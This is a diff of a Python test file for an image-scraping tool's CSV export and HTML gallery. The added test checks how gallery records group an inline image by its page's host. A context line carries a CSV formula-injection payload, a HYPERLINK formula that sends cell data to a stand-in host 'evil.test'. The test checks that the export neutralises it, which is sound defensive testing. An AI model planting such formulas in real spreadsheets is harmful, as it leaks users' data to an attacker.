@@ -193,3 +193,20 @@ def test_the_csv_export_gives_a_spreadsheet_no_formula_from_a_page(tmp_path: Pat
     assert [(r["alt"], r["title"], r["caption"], r["name"], r["pages"]) for r in rows] == [
         ("'=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "'+1", "'@SUM(A1)", "'-x.png", "2"),
         ("A calm sea", "", "1 = 1", "", "1")]
+
+
+def test_report_the_gallery_groups_a_picture_written_into_a_page_under_the_pages_host(tmp_path: Path) -> None:
+    prepare_output(tmp_path)
+    data = make_image(9, "png")
+    sha = f"{9:064x}"
+    path = f"images/b.test_8080/{sha}.png"
+    (tmp_path / path).write_bytes(data)
+    inline = {"url": f"data:image/png;sha256,{sha}", "page_url": "http://b.test:8080/report.html", "path": path,
+              "sha256": sha, "bytes": len(data), "content_type": "image/png", "width": 24, "height": 16,
+              "node": "n1", "time": "t", "found_as": "img", "name": None, "alt": "plot", "title": None,
+              "caption": None, "pages": 1}
+    with open(tmp_path / "manifest.jsonl", "a") as manifest:
+        manifest.write(json.dumps(inline) + "\n")
+    page = write_gallery(tmp_path).read_text()
+    records = json.loads(page.split('<script type="application/json" id="records">', 1)[1].split("</script>", 1)[0])
+    assert {r["host"] for r in records} == {"a.test", "b.test:8080"}  # before: a third, "b.test_8080"
